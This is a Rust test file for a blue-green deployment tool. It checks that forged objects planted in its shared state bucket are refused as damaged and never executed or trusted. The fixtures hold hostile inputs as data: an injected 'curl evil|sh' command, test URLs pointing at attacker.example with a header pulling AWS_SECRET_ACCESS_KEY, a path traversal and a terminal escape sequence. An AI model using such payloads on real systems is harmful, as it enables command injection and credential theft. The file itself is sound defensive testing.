//! Ring 3, whoever may write to the bucket: objects that this program has not written, planted
//! where it reads. None of them runs, sends or touches anything.

use std::path::PathBuf;
use std::process::Output;

use bluegreen::plan::{Target, is_id};
use bluegreen::shared::{deployment_key, lease_key};
use bluegreen_sandbox::{BUCKET, Phase, TapVerdict};
use bytes::Bytes;
use serde_json::{Value, json};

use crate::support::machines::{
    Elsewhere, all_is_well, all_is_well_after, begun, exits, killed_after,
    killed_with_its_disk_kept, run_killed_after,
};
use crate::support::served::Served;
use bluegreen_testing::sample::sampled;

const SPEED: f64 = 600.0;

/// No key of anybody's.
const KEY: &str = "0123456789abcdef0123456789abcdef";

/// The bytes of an object of the bucket.
fn bytes(served: &Served, key: &str) -> Bytes {
    let request = http::Request::get(format!("http://localhost/{BUCKET}/{key}"));
    let request = request.header("host", "localhost").body(Bytes::new());
    let answer = served.by_hand(request.expect("a request"));
    assert!(answer.status().is_success(), "{key}: {answer:?}");
    answer.into_body()
}

/// What an object of the bucket says.
fn object(served: &Served, key: &str) -> Value {
    serde_json::from_slice(&bytes(served, key)).expect("it is JSON")
}

/// Writes an object as anybody may who may write to the bucket.
fn plant(served: &Served, key: &str, content: impl Into<Bytes>) {
    let request = http::Request::put(format!("http://localhost/{BUCKET}/{key}"));
    let request = request.header("host", "localhost").body(content.into());
    let answer = served.by_hand(request.expect("a request"));
    assert!(answer.status().is_success(), "{answer:?}");
}

/// Every command that would go on with it, on a machine that has nothing but the bucket.
fn everybody(served: &Served, id: &str) -> Vec<Output> {
    let commands: [&[&str]; 5] = [
        &["resume", id],
        &["resume", "--all"],
        &["rollback", id],
        &["abort", id],
        &["resume"],
    ];
    let each = commands.iter();
    each.map(|arguments| Elsewhere::of(served).run(arguments))
        .collect()
}

/// A file that a command which runs would make.
fn marker(served: &Served) -> PathBuf {
    served.folder.path().join("marker")
}

/// Nothing was asked that changes anything since this many calls.
fn changes(served: &Served) -> Vec<String> {
    let calls = served.sandbox.report().calls;
    let changing = ["Create", "Update", "Swap", "Terminate", "Delete", "Abort"];
    let of_each = calls
        .into_iter()
        .filter(|(name, _)| changing.iter().any(|verb| name.starts_with(verb)));
    of_each
        .map(|(name, count)| format!("{name} {count}"))
        .collect()
}

#[test]
fn a_command_that_only_the_bucket_names_does_not_run() {
    let served = Served::at_speed(SPEED);
    let id = killed_after(&served, "CreateEnvironment", 1);
    let marker = marker(&served);
    let touch = format!("touch {}", marker.display());
    let limit = json!({"secs": 60, "nanos": 0});
    let hook = json!({"when": "before", "stage": "Warming", "command": touch,
        "on_failure": "ignore", "limit": limit, "on": null});
    let command = json!({"command": touch, "limit": limit});
    let back = json!({"tests": [], "command": command, "production": false});
    let plants = [
        ("hooks", json!([hook]), "--hook"),
        ("test_command", command.clone(), "--test-command"),
        ("tests_back", back, "--test-command"),
    ];
    let honest = object(&served, &deployment_key(&id));
    let before = changes(&served);
    for (part, planted, flag) in sampled("commands in a copy", plants, 1) {
        let mut forged = honest.clone();
        forged["deployment"]["plan"][part] = planted;
        plant(&served, &deployment_key(&id), forged.to_string());
        for output in everybody(&served, &id) {
            let (_, told) = exits(&output, 3);
            assert!(told.contains(flag), "{flag}: {told}");
            assert!(told.contains("whoever may write there"), "{told}");
        }
        assert!(!marker.exists(), "{part} was run");
    }
    assert_eq!(changes(&served), before);
    // With what this program wrote itself it goes on.
    plant(&served, &deployment_key(&id), honest.to_string());
    exits(&Elsewhere::of(&served).run(&["resume", &id]), 0);
    all_is_well(&served, "v2");
}

/// The flags of the run, on another machine, are as good as its journal.
#[test]
fn a_resume_elsewhere_needs_what_the_run_was_given() {
    let served = Served::at_speed(SPEED);
    let marker = marker(&served);
    let hook = format!(
        r#"{{ when = "before", stage = "deploying", command = "touch {}", on-failure = "hold" }}"#,
        marker.display()
    );
    let given = ["--hook", &hook, "--test-command", "exit 0"];
    let release = [&["run", "--version-label", "v2"], &given[..]].concat();
    let id = run_killed_after(&served, &release, "CreateEnvironment", 1);
    let (_, told) = exits(&Elsewhere::of(&served).run(&["resume", &id]), 3);
    for named in ["--hook before Deploying", "--test-command"] {
        assert!(told.contains(named), "{told}");
    }
    let other = [
        "resume",
        &id,
        "--hook",
        &hook,
        "--test-command",
        "exit 0; id",
    ];
    let (_, told) = exits(&Elsewhere::of(&served).run(&other), 3);
    assert!(
        told.contains("--test-command") && !told.contains("--hook before"),
        "{told}"
    );
    assert!(!marker.exists(), "it was run");
    let same = [&["resume", &id], &given[..]].concat();
    exits(&Elsewhere::of(&served).run(&same), 0);
    assert!(marker.exists(), "it was not run");
    all_is_well(&served, "v2");
}

#[test]
fn a_secret_is_not_sent_where_only_the_bucket_says() {
    let served = Served::at_speed(SPEED);
    let id = killed_after(&served, "CreateEnvironment", 1);
    let honest = object(&served, &deployment_key(&id));
    let before = changes(&served);
    for (url, headers) in sampled(
        "tests in a copy",
        [
            ("http://attacker.example/", json!({})),
            ("http://{cname}.attacker.example/", json!({})),
            ("/health", json!({"X-Key": "env:AWS_SECRET_ACCESS_KEY"})),
        ],
        1,
    ) {
        let mut forged = honest.clone();
        let test = &mut forged["deployment"]["plan"]["tests"][0];
        (test["url"], test["headers"]) = (json!(url), headers);
        plant(&served, &deployment_key(&id), forged.to_string());
        let elsewhere = Elsewhere::of(&served);
        let mut resume = elsewhere.command(&["resume", &id]);
        let output = resume.env("AWS_SECRET_ACCESS_KEY", "hunter2").output();
        let (_, told) = exits(&output.expect("it runs"), 3);
        assert!(
            told.contains("--test GET ") && !told.contains("hunter2"),
            "{told}"
        );
    }
    assert_eq!(changes(&served), before);
}

/// Green is what bears the deployment's tag, whatever a copy says.
#[test]
fn an_environment_that_only_the_bucket_calls_green_is_left_alone() {
    let served = Served::at_speed(SPEED);
    let id = killed_after(&served, "CreateEnvironment", 1);
    let id_of = |name: &str| {
        served.sandbox.with_world(|world, _| {
            world
                .environment(name)
                .map(|environment| environment.id.clone())
        })
    };
    let worker = id_of("shop-worker").expect("it is there");
    let honest = object(&served, &deployment_key(&id));
    let before = changes(&served);
    let discarding = json!({"state": "discarding", "cause": {"cause": "asked_to_retreat"}});
    for (what, change) in sampled(
        "forged plans",
        [
            ("does not bear its tag", json!({"green": "shop-worker"})),
            ("bluegreen:blue", json!({"blue_id": worker})),
            (
                "production-cname",
                json!({"production_cname": "other.example"}),
            ),
            ("bluegreen:strategy", json!({"strategy": "promote"})),
            ("its template", json!({"template": "shop-settings"})),
            (
                "operations role",
                json!({"operations_role": "arn:aws:iam::123456789012:role/admin"}),
            ),
        ],
        2,
    ) {
        let mut forged = honest.clone();
        let deployment = &mut forged["deployment"];
        deployment["state"] = discarding.clone();
        if change.get("green").is_some() {
            deployment["green_id"] = json!(worker);
        }
        for (member, value) in change.as_object().expect("an object") {
            deployment["plan"][member] = value.clone();
        }
        plant(&served, &deployment_key(&id), forged.to_string());
        let (_, told) = exits(&Elsewhere::of(&served).run(&["resume", &id]), 3);
        assert!(told.contains(what), "{what}: {told}");
    }
    assert_eq!(changes(&served), before);
    assert!(id_of("shop-worker").is_some() && id_of("shop-blue-green").is_some());
}

/// What follows from each other in a copy agrees, its numbers are such as this program writes,
/// and whatever is not is damage: told as that, and no bug.
#[test]
fn a_copy_that_this_program_would_not_write_is_damaged() {
    let served = Served::at_speed(SPEED);
    let id = killed_after(&served, "CreateEnvironment", 1);
    let honest = object(&served, &deployment_key(&id));
    let before = changes(&served);
    let large = json!(u64::MAX);
    let forever = json!({"secs": u64::MAX, "nanos": 0});
    let changes_of_plan =
        |member: &'static str, value: Value| (format!("/deployment/plan/{member}"), value);
    let mut forgeries: Vec<(String, Value)> = [
        "poll",
        "drain",
        "drain_limit",
        "bake",
        "patience",
        "quarantine",
        "settle",
        "test_grace",
    ]
    .map(|limit| (format!("/deployment/plan/limits/{limit}"), forever.clone()))
    .into();
    forgeries.extend([
        ("/deployment/revision".to_owned(), large.clone()),
        ("/deployment/revision".to_owned(), json!(0)),
        ("/deployment/fence".to_owned(), large.clone()),
        ("/deployment/entered_at".to_owned(), large.clone()),
        ("/deployment/slowest_answer".to_owned(), forever.clone()),
        ("/transitions/0/revision".to_owned(), large),
        (
            "/transitions/0/why".to_owned(),
            json!("x".repeat(1_000_000)),
        ),
        changes_of_plan("id", json!("01J00000000000000000000000")),
        changes_of_plan("id", json!("../../evil")),
        changes_of_plan("bucket", json!("evil-bucket")),
        changes_of_plan("shared_state", json!(false)),
        changes_of_plan("target/region", json!("x/#")),
        changes_of_plan("target/account", json!("12")),
        changes_of_plan("target/blue", json!("-")),
        changes_of_plan("green", json!("a\u{1b}[31m")),
        changes_of_plan("production_cname", json!("a b")),
        changes_of_plan("version", json!("v\n2")),
        ("/deployment".to_owned(), json!([])),
    ]);
    for (place, value) in sampled("forged values", forgeries, 6) {
        let mut forged = honest.clone();
        *forged
            .pointer_mut(&place)
            .unwrap_or_else(|| panic!("{place}")) = value;
        plant(&served, &deployment_key(&id), forged.to_string());
        let (_, told) = exits(&Elsewhere::of(&served).run(&["resume", &id]), 3);
        assert!(told.contains("is damaged"), "{place}: {told}");
        assert!(
            !told.contains('\u{1b}') && told.len() < 4_000,
            "{place}: {told}"
        );
    }
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let long = format!("{{\"format\":2,\"x\":\"{}\"}}", "x".repeat(9_000_000));
    let texts = [deep, long, "{".to_owned(), String::new()];
    for text in sampled("forged texts", texts, 2) {
        plant(&served, &deployment_key(&id), text);
        let (_, told) = exits(&Elsewhere::of(&served).run(&["resume", &id]), 3);
        assert!(told.contains("is damaged"), "{told}");
    }
    assert_eq!(changes(&served), before);
    assert_eq!(is_id(&id), Ok(()));
}

fn target() -> Target {
    Target {
        account: "123456789012".to_owned(),
        region: "us-east-1".to_owned(),
        application: "shop".to_owned(),
        blue: "shop-blue".to_owned(),
    }
}

#[test]
fn a_lease_that_this_program_would_not_write_is_damaged() {
    let served = Served::at_speed(SPEED);
    let id = killed_after(&served, "CreateEnvironment", 1);
    let key = lease_key(&target());
    let honest = object(&served, &key);
    for (member, value) in sampled(
        "forged leases",
        [
            ("fence", json!(u64::MAX)),
            ("renewals", json!(u64::MAX)),
            ("length_seconds", json!(u64::MAX)),
            ("taken_at", json!(u64::MAX)),
            ("deployment", json!("x; curl evil|sh #")),
        ],
        2,
    ) {
        let mut forged = honest.clone();
        forged[member] = value;
        plant(&served, &key, forged.to_string());
        let (_, told) = exits(&Elsewhere::of(&served).run(&["resume", &id]), 3);
        assert!(told.contains("is damaged"), "{member}: {told}");
    }
    let mut forged = honest.clone();
    forged["target"]["blue"] = json!("shop-other");
    plant(&served, &key, forged.to_string());
    let (_, told) = exits(&Elsewhere::of(&served).run(&["resume", &id]), 3);
    assert!(told.contains("another target"), "{told}");
    // Whoever asks to go back where nobody can be told has asked for nothing.
    let (_, told) = exits(&served.run(&["abort", &id]), 3);
    assert!(
        told.contains("or delete it once its deployment has no runner"),
        "{told}"
    );
    plant(&served, &key, honest.to_string());
    exits(&served.run(&["resume", &id]), 0);
    all_is_well(&served, "v2");
}

/// With a key that is not in the bucket a copy is trusted as the journal is, and nothing that
/// was written without it.
#[test]
fn a_copy_with_the_code_of_the_state_key_is_trusted_and_no_other() {
    let served = Served::at_speed(SPEED);
    let marker = marker(&served);
    let hook = format!(
        r#"{{ when = "before", stage = "deploying", command = "touch {}", on-failure = "hold" }}"#,
        marker.display()
    );
    let release = [
        "run",
        "--version-label",
        "v2",
        "--hook",
        &hook,
        "--state-key",
        KEY,
    ];
    let id = run_killed_after(&served, &release, "CreateEnvironment", 1);
    let key = deployment_key(&id);
    let signed = bytes(&served, &key);
    let honest = object(&served, &key);
    assert!(honest["mac"].is_string(), "{honest}");
    assert!(!honest.to_string().contains(KEY));
    let resume = ["resume", &id, "--state-key", KEY];
    let mut unsigned = honest.clone();
    unsigned.as_object_mut().expect("an object").remove("mac");
    let mut changed = honest.clone();
    changed["deployment"]["plan"]["hooks"][0]["command"] = json!("touch evil");
    for forged in [unsigned.to_string(), changed.to_string()] {
        plant(&served, &key, forged);
        let (_, told) = exits(&Elsewhere::of(&served).run(&resume), 3);
        assert!(told.contains("state key") && !told.contains(KEY), "{told}");
    }
    plant(&served, &key, signed);
    let short = ["resume", &id, "--state-key", "hunter2"];
    let (_, told) = exits(&Elsewhere::of(&served).run(&short), 3);
    assert!(
        told.contains("--state-key") && !told.contains("hunter2"),
        "{told}"
    );
    exits(&Elsewhere::of(&served).run(&resume), 0);
    assert!(marker.exists(), "the hook of the copy was not run");
    all_is_well(&served, "v2");
}

/// An order to go back is heeded where whoever left it has the key.
#[test]
fn an_order_in_a_lease_without_the_code_is_not_heeded() {
    let served = Served::at_speed(SPEED);
    let key = lease_key(&target());
    let (sender, receiver) = std::sync::mpsc::channel();
    served.sandbox.set_tap(move |call, phase| {
        if phase == Phase::After && call.operation == "CreateEnvironment" {
            let _ = sender.send(());
        }
        TapVerdict::Continue
    });
    let run = served.bluegreen(&["run", "--version-label", "v2", "--state-key", KEY]);
    let run = crate::support::machines::started(run);
    receiver.recv().expect("green is asked for");
    let mut forged = object(&served, &key);
    forged["retreat_requested"] = json!(true);
    plant(&served, &key, forged.to_string());
    exits(&run.wait_with_output().expect("it ends"), 0);
    all_is_well(&served, "v2");
}

/// What has ended is nobody's to go on with: no key that comes later, and no other one, has it
/// stand in anybody's way.
#[test]
fn a_state_key_may_be_introduced_and_changed() {
    let served = Served::at_speed(SPEED);
    const OTHER: &str = "fedcba9876543210fedcba9876543210";
    exits(&served.run(&["run", "--version-label", "v2"]), 0);
    for (releases, version, key) in [(2, "v1", KEY), (3, "v2", OTHER)] {
        let elsewhere = Elsewhere::of(&served);
        let with_key = |arguments: &[&str]| {
            exits(
                &elsewhere.run(&[arguments, &["--state-key", key]].concat()),
                0,
            )
        };
        with_key(&["status"]);
        with_key(&["resume", "--all"]);
        with_key(&["plan", "--version-label", version]);
        let (shown, told) = with_key(&["status", "--all"]);
        assert!(!shown.contains("Completed"), "{shown}");
        assert!(told.contains("that have ended were not written"), "{told}");
        with_key(&["run", "--version-label", version]);
        all_is_well_after(releases, &served, version);
    }
}

/// What has not ended is finished with the key that it was begun with, and nothing begins
/// beside it.
#[test]
fn a_state_key_that_comes_in_the_middle_is_refused() {
    let served = Served::at_speed(SPEED);
    let id = killed_after(&served, "CreateEnvironment", 1);
    for arguments in [
        &["run", "--version-label", "v1"][..],
        &["plan", "--version-label", "v1"],
        &["resume", &id],
    ] {
        let with_key = [arguments, &["--state-key", KEY]].concat();
        let (shown, told) = exits(&Elsewhere::of(&served).run(&with_key), 3);
        assert!(
            (shown + &told).contains("state key"),
            "{arguments:?}: {told}"
        );
    }
    exits(&Elsewhere::of(&served).run(&["resume", &id]), 0);
    all_is_well(&served, "v2");
}

/// A copy that somebody has damaged is written anew where nobody has driven the deployment since
/// what the journal here has.
#[test]
fn a_damaged_copy_is_written_anew_from_a_whole_journal() {
    for key in [None, Some(KEY)] {
        let served = Served::at_speed(SPEED);
        let key = key.map_or_else(Vec::new, |key| vec!["--state-key", key]);
        let release = [&["run", "--version-label", "v2"][..], &key].concat();
        let id = killed_with_its_disk_kept(&served, &release, "CreateEnvironment", 1);
        let whole = bytes(&served, &deployment_key(&id));
        plant(&served, &deployment_key(&id), whole.slice(..900));
        let resume = [&["resume", &id][..], &key].concat();
        let (_, told) = exits(&Elsewhere::of(&served).run(&resume), 3);
        assert!(told.contains("is damaged"), "{told}");
        let (_, told) = exits(&served.run(&resume), 0);
        assert!(told.contains("writes it anew"), "{told}");
        all_is_well(&served, "v2");
        // Once it has ended, nobody waits for it.
        plant(&served, &deployment_key(&id), "{}");
        let release = [&["run", "--version-label", "v1"][..], &key].concat();
        exits(&Elsewhere::of(&served).run(&release), 0);
        all_is_well_after(2, &served, "v1");
    }
}

/// The operator's own hook, for the operator's own target, is nothing that a copy of another
/// target may ask for.
#[test]
fn a_hook_of_the_runner_runs_for_its_target_alone() {
    let served = Served::at_speed(SPEED);
    let marker = marker(&served);
    let hook = format!(
        r#"{{ when = "before", stage = "deploying", command = "touch {}", on-failure = "hold" }}"#,
        marker.display()
    );
    let release = ["run", "--version-label", "v2", "--hook", &hook];
    let id = run_killed_after(&served, &release, "CreateEnvironment", 1);
    let sweep = ["resume", "--all", "--hook", &hook];
    let of_another = [&sweep[..], &["--blue", "shop-other"]].concat();
    let (_, told) = exits(&Elsewhere::of(&served).run(&of_another), 3);
    assert!(
        told.contains("its target, which --app and --blue"),
        "{told}"
    );
    assert!(!marker.exists(), "{told}");
    exits(&Elsewhere::of(&served).run(&sweep), 0);
    assert!(marker.exists(), "{id}: the hook was not run");
    all_is_well(&served, "v2");
}

/// A copy that lacks what is to pass before users have the version is not gone on with where
/// the journal here, or the configuration, has it.
#[test]
fn gates_that_are_taken_out_of_a_copy_are_missed() {
    let served = Served::at_speed(SPEED);
    let hook = r#"{ when = "before", stage = "swapping-to-blue", command = "false", on-failure = "hold" }"#;
    let release = [
        "run",
        "--version-label",
        "v2",
        "--pause-before",
        "cutover",
        "--hook",
        hook,
    ];
    exits(&served.run(&release), 0);
    let id = begun(&served);
    let key = deployment_key(&id);
    let honest = object(&served, &key);
    let mut forged = honest.clone();
    let deployment = &mut forged["deployment"];
    deployment["state"] = json!({ "state": "testing" });
    deployment["revision"] = json!(deployment["revision"].as_u64().expect("a number") + 5);
    deployment["plan"]["pause_before_cutover"] = json!(false);
    deployment["plan"]["hooks"] = json!([]);
    plant(&served, &key, forged.to_string());
    let before = changes(&served);
    let (_, told) = exits(&served.run(&["resume", "--all"]), 3);
    assert!(told.contains("no --pause-before cutover"), "{told}");
    assert!(told.contains("no --hook before SwappingToBlue"), "{told}");
    // A sweep elsewhere has what it is given.
    let sweep = ["resume", "--all", "--hook", hook];
    let (_, told) = exits(&Elsewhere::of(&served).run(&sweep), 3);
    assert!(told.contains("no --hook before SwappingToBlue"), "{told}");
    assert_eq!(changes(&served), before);
}
